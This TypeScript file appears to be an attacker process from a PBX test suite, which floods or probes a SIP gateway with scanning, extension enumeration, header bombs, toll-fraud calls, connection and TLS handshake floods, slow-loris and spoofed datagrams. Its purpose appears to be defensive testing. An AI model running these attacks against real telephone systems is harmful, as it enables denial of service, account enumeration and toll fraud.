import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { aForger } from '../../test/support/forged-datagram.ts';
import { userName } from '../users.ts';
import type { Habit } from './attacks.ts';
import { honestPorts } from './honest-phones.ts';

/**
 * An attacker in a process of its own: `attacker.ts HABIT GATE SOURCE SECONDS`. Prints one line of JSON at its end: what
 * it sent, and what it was told.
 */

const [habit = '', gate = '', source = '', seconds = ''] = process.argv.slice(2);
const until = performance.now() + Number(seconds) * 1000;
const goesOn = () => performance.now() < until;
const told = { sent: 0, answers: 0, bytes: 0, statuses: {} as Record<string, number> };

function hear(bytes: Buffer): void {
  told.answers++;
  told.bytes += bytes.length;
  const status = /^SIP\/2\.0 (\d{3})/.exec(bytes.toString('latin1', 0, 12))?.[1] ?? 'other';
  told.statuses[status] = (told.statuses[status] ?? 0) + 1;
}

let serial = 0;
function message(
  method: string,
  user: string,
  from: string,
  headers: readonly string[] = [],
  at = source,
): string {
  serial++;
  return [
    `${method} sip:${user}${user === '' ? '' : '@'}${gate} SIP/2.0`,
    `Via: SIP/2.0/UDP ${at}:5060;branch=z9hG4bK${serial}x${process.pid};rport`,
    `From: <sip:${from}@${gate}>;tag=${serial}`,
    `To: <sip:${user === '' ? from : user}@${gate}>`,
    `Call-ID: ${serial}-${process.pid}@${at}`,
    `CSeq: 1 ${method}`,
    `Contact: <sip:${from}@${at}:5060>`,
    'Max-Forwards: 70',
    ...headers,
    'Content-Length: 0',
    '',
    '',
  ].join('\r\n');
}

async function udp(address = source): Promise<UdpSocket> {
  const socket = createSocket('udp4');
  socket.on('message', hear);
  socket.on('error', () => {});
  await new Promise<void>((resolve) => socket.bind(0, address, resolve));
  return socket;
}
function send(socket: UdpSocket, text: string): void {
  told.sent++;
  socket.send(text, 5060, gate);
}

const scanners = [
  ...[
    'friendly-scanner',
    'sipvicious',
    'sipcli/v1.8',
    'sipsak 0.9.7',
    'SIPPTS',
    'pplsip',
    'sundayddr',
  ],
  ...['VaxSIPUserAgent/3.1', 'Cisco-SIPGateway/IOS-12.x', 'Z 3.14.38765 rv2.8.3'],
];

/** A connection, counted when it is made, and again when the gate says something. */
function stream(secure: boolean, made: (socket: Socket) => void): Socket {
  const where = { host: gate, port: secure ? 5061 : 5060, localAddress: source };
  const socket = secure ? connectTls({ ...where, rejectUnauthorized: false }) : connect(where);
  socket.on(secure ? 'secureConnect' : 'connect', () => {
    told.sent++;
    made(socket);
  });
  socket.on('data', hear);
  socket.on('error', () => {});
  return socket;
}

async function handshakes(): Promise<void> {
  for (;;) {
    if (!goesOn()) return;
    await new Promise<void>((done) => {
      const socket = stream(true, (made) => made.destroy());
      socket.once('close', () => done());
    });
    if (told.sent === 0) await sleep(20);
  }
}

/** What is never finished is begun anew when the gate gives it up. */
async function neverFinished(count: number, secure: boolean, beginning: string): Promise<void> {
  const open = new Set<Socket>();
  while (goesOn()) {
    while (open.size < count) {
      const socket = connect({ host: gate, port: secure ? 5061 : 5060, localAddress: source });
      open.add(socket);
      socket.on('connect', () => {
        told.sent++;
        if (beginning !== '') socket.write(beginning);
      });
      socket.on('data', hear);
      socket.on('error', () => {});
      socket.once('close', () => setTimeout(() => open.delete(socket), 100));
    }
    await sleep(1000);
    if (beginning !== '') for (const socket of open) if (socket.writable) socket.write('x');
  }
  for (const socket of open) socket.destroy();
}

/** One of everything that fits into a datagram. Registrations are for others: this PBX asks the honest for no password. */
function everything(): readonly string[] {
  const victim = userName(1000 + (serial % 200));
  const inDialog = (text: string) => text.replace(/^To: <[^>]*>/m, '$&;tag=x');
  const credentials = `Digest username="1001", realm="uas", nonce="0123456789abcdef", uri="sip:x", response="${'0'.repeat(32)}"`;
  return [
    message('REGISTER', '', '1001'),
    message('REGISTER', '', '1001', [`Authorization: ${credentials}`]),
    message('REGISTER', '', '1001', ['User-Agent: friendly-scanner']),
    ...['+442079460123', '+972592100000', "1' or '1'='1"].map((number) =>
      message('INVITE', number, victim),
    ),
    message('INVITE', '+442079460123', victim, [`Proxy-Authorization: ${credentials}`]),
    message('INVITE', '+442079460123', victim, ['User-Agent: friendly-scanner']),
    inDialog(message('INVITE', '+442079460123', victim, [`Route: <sip:x@${gate}:5060;lr>`])),
    ...['BYE', 'CANCEL', 'ACK', 'MESSAGE', 'SUBSCRIBE', 'PUBLISH', 'NOTIFY'].map((method) =>
      message(method, '1002', victim),
    ),
    ...['BYE', 'INFO', 'UPDATE', 'PRACK'].map((method) =>
      inDialog(message(method, '1002', victim)),
    ),
    message('REFER', '1002', victim, ['Refer-To: <sip:+447012345678@x>']),
    message('OPTIONS', '', victim),
    message('OPTIONS', '', victim).replace('Max-Forwards: 70', 'Max-Forwards: many'),
    'SIP/2.0 200 OK\r\n\r\n',
    'GET / HTTP/1.1\r\n\r\n',
    '\0\x01\x02'.repeat(100),
    '\r\n\r\n',
  ];
}

const play: Readonly<Record<Habit, () => Promise<void>>> = {
  async scan() {
    const sockets = await Promise.all(
      scanners.map((_, at) => udp(source.replace(/\d+$/, String(200 + at)))),
    );
    while (goesOn()) {
      for (const [at, socket] of sockets.entries())
        send(socket, message('OPTIONS', '', '100', [`User-Agent: ${scanners[at]}`]));
      await sleep(100);
    }
    for (const socket of sockets) socket.close();
  },
  async enumerate() {
    const socket = await udp();
    for (let extension = 1000; goesOn(); extension++) {
      send(socket, message('REGISTER', '', String(extension), ['User-Agent: Zoiper rv2.10']));
      await sleep(50);
    }
    socket.close();
  },
  async 'header-bombs'() {
    const socket = await udp();
    const lines = Array.from({ length: 2000 }, (_, at) => `X-${at}: ${at}`);
    const deep = `X-Deep: <sip:a@b${';p=v'.repeat(8000)}>`;
    const long = `Subject: ${'a'.repeat(60_000)}`;
    while (goesOn()) {
      for (const headers of [
        lines,
        [deep],
        [long],
        ['Via: SIP/2.0/UDP a'.concat(', SIP/2.0/UDP b'.repeat(3000))],
      ])
        send(socket, message('OPTIONS', '1000', '1000', headers));
      await sleep(10);
    }
    socket.close();
  },
  async fraud() {
    const socket = await udp();
    const prefixes = ['00', '000', '900', '9011', '+', '810', '011', '0000', '*00', '8800'];
    for (let call = 0; goesOn(); call++) {
      const number = `${prefixes[call % prefixes.length]}972592${100000 + (call % 7)}`;
      send(socket, message('INVITE', number, String(1000 + (call % 50))));
      await sleep(50);
    }
    socket.close();
  },
  connections: () => neverFinished(5000, false, ''),
  async handshakes() {
    await Promise.all(Array.from({ length: 8 }, handshakes));
  },
  'slow-loris': () => neverFinished(200, false, 'OPTIONS sip:a@b SIP/2.0\r\nX: '),
  async forge() {
    const forger = aForger(source, { address: gate, port: 5060 });
    for (let round = 0; goesOn(); round++) {
      for (const text of everything()) {
        told.sent++;
        forger.send(honestPorts[round % honestPorts.length] ?? 5060, text);
      }
      await sleep(80);
    }
    await forger.close();
  },
  'tls-slow-loris': () => neverFinished(200, true, '\u0016\u0003\u0001'),
};

await play[habit as Habit]();
await sleep(300);
console.log(JSON.stringify(told));
process.exit(0);
